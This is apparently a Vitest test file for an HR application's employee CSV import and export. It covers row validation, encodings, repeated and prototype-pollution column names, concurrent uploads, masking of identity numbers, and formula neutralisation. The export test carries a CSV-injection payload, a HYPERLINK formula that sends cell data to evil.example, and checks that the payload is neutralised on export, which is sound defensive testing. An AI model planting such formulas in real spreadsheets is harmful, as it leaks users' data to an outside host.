import { describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { useTestApp, csrfTokenOf } from '../support/app.js';
import { getPage, sessionFor, type Browserish } from '../support/auth.js';
import { seedDemo } from '../../src/demo/seed.js';
import { verhoeffCheckDigit } from '../../src/modules/people/index.js';
import { neutraliseFormula } from '../../src/modules/people/csv.js';

const HEADER = 'code,full_name,email,department,date_of_joining,work_state,pan,aadhaar,bank_account,ifsc';
const aadhaar = (eleven: string) => eleven + verhoeffCheckDigit(eleven);

/** A form upload; the file goes as the bytes given (a string as UTF-8), as a browser sends a file. */
function multipart(fields: Record<string, string>, file: string | Buffer) {
  const boundary = '----bizlumo' + Math.random().toString(16).slice(2);
  const parts = Object.entries(fields).map(([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`);
  parts.push(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="people.csv"\r\nContent-Type: text/csv\r\n\r\n`);
  const payload = Buffer.concat([Buffer.from(parts.join('')), Buffer.isBuffer(file) ? file : Buffer.from(file), Buffer.from(`\r\n--${boundary}--\r\n`)]);
  return { payload, contentType: `multipart/form-data; boundary=${boundary}` };
}

describe('CSV import and export', () => {
  const t = useTestApp({ seed: async (t) => void (await seedDemo(t.db.database.db, t.config)) });
  const count = async () => Number(((await t.db.database.db.execute(sql`SELECT COUNT(*) AS n FROM employees`)) as unknown as [{ n: number }[]])[0][0]!.n);

  async function upload(jar: Browserish, csv: string | Buffer, mode?: string) {
    const page = await getPage(t.app, jar, '/employees/import');
    const body = multipart({ _csrf: csrfTokenOf(page.body), ...(mode ? { mode } : {}) }, csv);
    return t.app.inject({
      method: 'POST',
      url: '/employees/import',
      headers: { cookie: jar.cookie, 'content-type': body.contentType, 'sec-fetch-site': 'same-origin' },
      payload: body.payload,
    });
  }

  const good1 = `IMP001,Kiran Rao,kiran@acme.test,Engineering,2026-01-05,KA,ABKPR1111A,${aadhaar('29876543210')},123456789012,SBIN0001111`;
  const good2 = `IMP002,Lata Menon,lata@acme.test,Sales,2026-02-10,mh,ABKPM2222B,,,`;
  const badRow = `IMP003,,x@acme.test,Marketing,2026-13-01,ZZ,NOTAPAN,123456789012,12ab,`;
  const dupCode = `IMP001,Kiran Again,k2@acme.test,Engineering,2026-01-05,KA,,,,`;

  it('imports nothing when any row is wrong, and reports every problem by line and field', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    const before = await count();
    const res = await upload(hr, [HEADER, good1, good2, badRow, dupCode].join('\n'));
    expect(res.statusCode).toBe(422);
    expect(await count()).toBe(before);
    expect(res.body).toContain('nothing was imported');
    const report = /<table data-import-report>([\s\S]*?)<\/table>/.exec(res.body)![1]!;
    expect(report).toContain('<td>4</td>');
    for (const problem of [
      '<strong>fullName</strong>',
      '<strong>department</strong>: &quot;Marketing&quot; is not a department',
      '<strong>dateOfJoining</strong>',
      '<strong>workState</strong>',
      '<strong>pan</strong>',
      '<strong>aadhaarLast4</strong>',
      '<strong>bankAccount</strong>',
    ]) {
      expect(report).toContain(problem);
    }
    expect(report).toContain('<td>5</td>');
    expect(report).toContain('<strong>code</strong>: repeats line 2');
  });

  it('imports the valid rows when asked, encrypted like any other', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    const before = await count();
    const res = await upload(hr, [HEADER, good1, good2, badRow].join('\n'), 'valid');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('Imported 2 of 3 rows');
    expect(await count()).toBe(before + 2);
    const [rows] = (await t.db.database.db.execute(
      sql`SELECT code, work_state, pan_cipher FROM employees WHERE code LIKE 'IMP%' ORDER BY code`,
    )) as unknown as [{ code: string; work_state: string; pan_cipher: string }[]];
    expect(rows.map((r) => [r.code, r.work_state])).toEqual([
      ['IMP001', 'KA'],
      ['IMP002', 'MH'],
    ]);
    expect(rows[0]!.pan_cipher).toMatch(/^v1:1:/);
    // Same codes again: refused as existing.
    const again = await upload(hr, [HEADER, good1].join('\n'), 'valid');
    expect(again.body).toContain('is already used by an employee');
  });

  it('refuses files that are not CSV, too large, or with unknown columns, with a 4xx', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    expect((await upload(hr, 'code,full_name,salary\nX,Y,100')).statusCode).toBe(400);
    expect((await upload(hr, `${HEADER}\n"unterminated,quote`)).statusCode).toBe(400);
    const huge = await upload(hr, HEADER + '\n' + 'x'.repeat(3 * 1024 * 1024));
    expect(huge.statusCode).toBe(413);
  });

  it('reads what Excel writes: Windows-1252 and UTF-16 files keep their accented names', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    const latin = await upload(hr, Buffer.from([HEADER, 'ENC001,René Çelik,rene@acme.test,Sales,2026-03-01,KA,,,,'].join('\r\n'), 'latin1'));
    expect(latin.statusCode, latin.body).toBe(200);
    const utf16 = await upload(
      hr,
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([HEADER, 'ENC002,Zoë Ñúñez,zoe@acme.test,Sales,2026-03-01,KA,,,,'].join('\r\n'), 'utf16le')]),
    );
    expect(utf16.statusCode, utf16.body).toBe(200);
    const [rows] = (await t.db.database.db.execute(sql`SELECT full_name FROM employees WHERE code IN ('ENC001', 'ENC002') ORDER BY code`)) as unknown as [
      { full_name: string }[],
    ];
    expect(rows.map((r) => r.full_name)).toEqual(['René Çelik', 'Zoë Ñúñez']);
  });

  it('refuses a repeated column and treats inherited names like any unknown column', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    const before = await count();
    const repeated = await upload(hr, [`${HEADER},code`, `REP001,Asha Iyer,asha@acme.test,Sales,2026-03-01,KA,,,,,REP002`].join('\n'));
    expect(repeated.statusCode).toBe(400);
    expect(repeated.body).toContain('repeats the column code');
    for (const inherited of ['__proto__', 'constructor', 'toString']) {
      const res = await upload(hr, [`${HEADER},${inherited}`, `INH001,Asha Iyer,asha@acme.test,Sales,2026-03-01,KA,,,,,x`].join('\n'));
      expect(res.statusCode, inherited).toBe(400);
      expect(res.body, inherited).toContain(`has unknown columns: ${inherited.toLowerCase()}`);
    }
    expect(await count()).toBe(before);
  });

  it('two overlapping imports of one file: one imports, the other is refused without a 500 or a partial write', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    const letter = (n: number) => String.fromCharCode(65 + (n % 26));
    const lines = Array.from(
      { length: 300 },
      (_, i) =>
        `RACE${String(i).padStart(3, '0')},Racer ${i},,Sales,2026-03-01,KA,${letter(i)}${letter(i >> 3)}XP${letter(i >> 5)}${String(i).padStart(4, '0')}Z,,,`,
    );
    const file = [HEADER, ...lines].join('\n');
    const before = await count();
    const otherBrowser = await sessionFor(t.app, 'hr@acme.test');
    const results = await Promise.all([upload(hr, file), upload(otherBrowser, file)]);
    const statuses = results.map((r) => r.statusCode).sort();
    expect(statuses[0], results.map((r) => r.body.slice(0, 300)).join('\n')).toBe(200);
    expect([400, 422]).toContain(statuses[1]);
    expect(await count()).toBe(before + 300);
  });

  it('exports CSV with masked sensitive fields and neutralised formulas', async () => {
    const hr = await sessionFor(t.app, 'hr@acme.test');
    const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await upload(hr, [HEADER, `EVIL01,"${evilName.replace(/"/g, '""')}",evil@acme.test,Sales,2026-03-01,KA,,,,`].join('\n'));
    const res = await getPage(t.app, hr, '/employees/export.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="employees-.*\.csv"$/);
    const records = parse(res.body, { columns: true }) as Record<string, string>[];
    const evil = records.find((r) => r.code === 'EVIL01')!;
    expect(evil.full_name).toBe(`'${evilName}`);
    const kiran = records.find((r) => r.code === 'IMP001')!;
    expect(kiran.pan).toBe('XXXXXX111A');
    // Aadhaar keeps only its last 4, so it is masked whole in exports too.
    expect(kiran.aadhaar).toBe('XXXX XXXX ••••');
    expect(res.body).not.toContain('ABKPR1111A');
    expect(records.length).toBeGreaterThan(60);
    // The export is audited (security.md: exports are counted per user), with the rows it carried.
    const [exported] = (await t.db.database.db.execute(sql`SELECT details FROM audit_events WHERE action = 'employee.exported'`)) as unknown as [
      { details: string }[],
    ];
    expect(exported.map((r) => JSON.parse(r.details))).toEqual([{ rows: records.length }]);
    expect(neutraliseFormula('-2+3')).toBe("'-2+3");
    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseFormula('Ravi')).toBe('Ravi');
  });
});
